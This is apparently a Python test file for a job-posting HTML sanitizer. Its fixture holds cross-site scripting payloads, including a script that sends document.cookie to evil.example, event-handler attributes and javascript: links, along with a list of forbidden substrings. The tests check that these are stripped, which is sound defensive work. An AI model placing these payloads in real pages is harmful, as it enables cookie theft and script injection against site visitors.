"""The description sanitizer: clipped HTML keeps its structure and loses everything that can run."""
from __future__ import annotations

import json

from jobloop.parsing import parse
from jobloop.parsing.description import html_to_text, sanitize_html

HOSTILE = (
    '<h2 onclick="steal()">About the role</h2>'
    '<p style="background:url(https://evil.example/x)">Build <strong>APIs</strong> '
    '<a href="javascript:alert(1)">here</a> and <a href="https://acme.example/team">meet us</a>.</p>'
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    '<img src="x" onerror="alert(2)"><iframe src="https://evil.example"></iframe>'
    '<form action="https://evil.example"><input name="q"></form>'
    '<svg onload="alert(3)"><circle r="1"/></svg><style>body{display:none}</style>'
    '<ul><li>Python</li><li>SQL</li></ul>'
)


def test_sanitizer_drops_what_can_run_and_keeps_structure():
    clean = sanitize_html(HOSTILE)
    lowered = clean.lower()
    for bad in ("<script", "fetch(", "onclick", "onerror", "onload", "javascript:", "<iframe", "<form",
                "<input", "<svg", "<style", "style=", "<img", "evil.example"):
        assert bad not in lowered, bad
    assert "<h2>About the role</h2>" in clean
    assert "<strong>APIs</strong>" in clean
    assert "<li>Python</li>" in clean
    assert 'href="https://acme.example/team"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_text_of_a_sanitized_description_has_no_markup():
    text = html_to_text(sanitize_html(HOSTILE))
    assert "About the role" in text and "Python" in text
    assert "<" not in text and "document.cookie" not in text


def test_parsed_posting_description_is_sanitized():
    ld = {"@context": "https://schema.org", "@type": "JobPosting", "title": "API Engineer",
          "hiringOrganization": {"@type": "Organization", "name": "Acme"}, "datePosted": "2026-11-02",
          "employmentType": "FULL_TIME", "description": "<h3>Responsibilities</h3>" + HOSTILE + "<h3>Requirements</h3><p>3 years of Python.</p>",
          "jobLocation": {"@type": "Place", "address": {"@type": "PostalAddress", "addressLocality": "Lisbon"}}}
    ld_json = json.dumps(ld).replace("</", "<\\/")  # as sites do, so </script> inside stays data
    page = f'<html><head><script type="application/ld+json">{ld_json}</script></head><body><h1>API Engineer</h1></body></html>'
    draft = parse(page, "https://jobs.example.test/acme/1")
    assert "Build" in draft.description_html
    for bad in ("<script", "onerror", "javascript:", "<iframe"):
        assert bad not in draft.description_html.lower(), bad


def test_tree_html_keeps_what_the_sanitizer_keeps_without_serializing_the_page():
    """The fallback description is taken from the tree already reduced to the allowed tags:
    sanitized, it reads exactly like the sanitized str() of the same element."""
    from bs4 import BeautifulSoup

    from jobloop.parsing.description import html_to_text, sanitize_html, tree_html

    html = """<html><body><main id="m">
      <h2 title="t" class="x">About the role</h2><!-- a comment -->
      <p onclick="steal()">We use <b>Python</b> &amp; <i>SQL</i>; 3 &lt; 5 &gt; 2.<br/>Line two</p>
      <nav>Home | Jobs</nav><custom-el>Chip text</custom-el>
      <script>var secret = "<p>nope</p>";</script><style>p{color:red}</style><noscript>no js</noscript>
      <svg><text>logo</text></svg><template><p>hidden</p></template>
      <a href="javascript:alert(1)" title="bad">bad link</a> <a href="https://example.com/apply" rel="x">Apply</a>
      <ul><li>one</li><li>two</li></ul><table><tr><td>cell</td></tr></table>
      <form id="f"><label>Your name</label><input name="n"></form>
    </main></body></html>"""
    soup = BeautifulSoup(html, "lxml")
    main = soup.find("main")
    reduced = tree_html([main], skip=[soup.find("form")])
    assert "<script" not in reduced and "secret" not in reduced and "onclick" not in reduced and "Your name" not in reduced
    assert "3 &lt; 5 &gt; 2" in reduced
    expected = sanitize_html(str(main).replace(str(soup.find("form")), ""))
    assert sanitize_html(reduced) == expected
    assert html_to_text(sanitize_html(reduced)).splitlines()[:2] == ["About the role", "We use Python & SQL ; 3 < 5 > 2."]
    assert 'href="https://example.com/apply"' in sanitize_html(reduced) and "javascript" not in sanitize_html(reduced)
